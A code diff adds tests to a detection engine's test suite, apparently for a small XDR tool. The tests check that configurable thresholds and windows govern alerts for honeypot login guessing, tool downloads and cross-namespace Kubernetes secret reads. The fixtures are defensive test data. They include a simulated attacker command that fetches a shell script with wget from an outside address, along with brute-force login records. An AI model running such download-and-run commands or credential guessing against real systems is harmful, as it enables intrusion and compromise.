@@ -3,6 +3,8 @@ import { describe, expect, it, beforeAll } from "vitest";
 import { attackCorpus } from "../../test/detector/corpus/attackCorpus.ts";
 import { benignCorpus } from "../../test/detector/corpus/benignCorpus.ts";
 import { body, type CorpusScenario } from "../../test/detector/corpus/corpusScenario.ts";
+import { auditEvent } from "../../test/detector/fixtures/auditRecords.ts";
+import { cowrie } from "../../test/detector/fixtures/cowrieRecords.ts";
 import { detectionConfigSchema } from "../config/detectorConfig.ts";
 import { DetectionEngine } from "../detection/detectionEngine.ts";
 import { ingestFormats } from "../ingest/formats.ts";
@@ -19,10 +21,10 @@ beforeAll(async () => {
  * Ingests the scenario's batches and detects them as the detector's background passes do: by default one pass per
  * batch (a quiet detector), or with `onePass` a single pass over everything (a busy one gathering batches).
  */
-async function run(scenario: CorpusScenario, opts: { onePass?: boolean } = {}) {
+async function run(scenario: CorpusScenario, opts: { onePass?: boolean; detection?: object } = {}) {
   const repository = new SqliteRepository(":memory:");
   await repository.migrate();
-  const engine = new DetectionEngine({ config: detectionConfigSchema.parse({}), containment: "alert", anomalyModel: scorer });
+  const engine = new DetectionEngine({ config: detectionConfigSchema.parse(opts.detection ?? {}), containment: "alert", anomalyModel: scorer });
   const pass = () => repository.detectQueued(100_000, (events, tx) => engine.detectIn(tx, events));
   for (const [i, batch] of scenario.batches.entries()) {
     const result = await ingestBatch({ repository }, ingestFormats[batch.format]!, body(batch), "default", Date.parse("2024-05-15T00:00:00Z"));
@@ -65,5 +67,59 @@ describe("pass size", () => {
 describe("benign corpus", () => {
   it.each(benignCorpus.map((s) => [s.name, s] as const))("%s raises no incident", async (_name, scenario) => {
     expect(await run(scenario)).toEqual([]);
+  });
+});
+
+describe("configured thresholds and windows (MiniXdr spec.detector.config.detection)", () => {
+  const guesser = { srcIp: "192.0.2.202", session: "9e55e4000002" };
+  const dropper = { srcIp: "203.0.113.98", session: "d40990e40002" };
+  const secretsRead = (seconds: number, namespace: string) => auditEvent(seconds, {
+    user: "dev-user", verb: "get", resource: "secrets", namespace, name: "creds", requestURI: `/api/v1/namespaces/${namespace}/secrets/creds`, code: 200,
+  });
+  // Each scenario raises its technique under one setting and not under the other: the rule reads the configured value.
+  it.each([
+    {
+      what: "login after 4 failures: raised when 4 are enough, not when 5 are needed",
+      technique: "T1078",
+      raisedWith: { loginAfterFailures: { failures: 4 } },
+      quietWith: { loginAfterFailures: { failures: 5 } },
+      batches: [{ format: "cowrie", encoding: "ndjson", records: [
+        ...[0, 30, 60, 90].map((t) => cowrie.loginFailed(guesser, t, "admin", `guess${t}`)), cowrie.loginSuccess(guesser, 125, "admin", "admin123"),
+      ] }],
+    },
+    {
+      what: "login after failures spread over 15 minutes: raised with a 20-minute window, not with the default 10",
+      technique: "T1078",
+      raisedWith: { loginAfterFailures: { windowSeconds: 1200 } },
+      quietWith: {},
+      batches: [{ format: "cowrie", encoding: "ndjson", records: [
+        ...[0, 300, 600].map((t) => cowrie.loginFailed(guesser, t, "admin", `guess${t}`)), cowrie.loginSuccess(guesser, 900, "admin", "admin123"),
+      ] }],
+    },
+    {
+      what: "a download 20 minutes after login: raised with the default hour, not with a 10-minute window",
+      technique: "T1105",
+      raisedWith: {},
+      quietWith: { toolDownload: { windowSeconds: 600 } },
+      batches: [
+        { format: "cowrie", encoding: "ndjson", records: [cowrie.loginSuccess(dropper, 0, "root", "root")] },
+        { format: "cowrie", encoding: "ndjson", records: [cowrie.command(dropper, 1200, "wget http://198.51.100.66/bins/x86.sh")] },
+      ],
+    },
+    {
+      what: "secrets read in two namespaces 15 minutes apart: raised with a 20-minute window, not with the default 10",
+      technique: "T1552.007",
+      raisedWith: { kubernetes: { windowSeconds: 1200 } },
+      quietWith: {},
+      batches: [
+        { format: "k8s-audit", encoding: "eventlist", records: [secretsRead(0, "payments")] },
+        { format: "k8s-audit", encoding: "eventlist", records: [secretsRead(900, "billing")] },
+      ],
+    },
+  ] as const)("$what", async ({ technique, raisedWith, quietWith, batches }) => {
+    const scenario = { name: technique, description: "", batches: batches as unknown as CorpusScenario["batches"], expect: [] };
+    const techniques = async (detection: object) => (await run(scenario, { detection })).map((i) => i.detectionKey);
+    expect(await techniques(raisedWith)).toContain(technique);
+    expect(await techniques(quietWith)).not.toContain(technique);
   });
 });
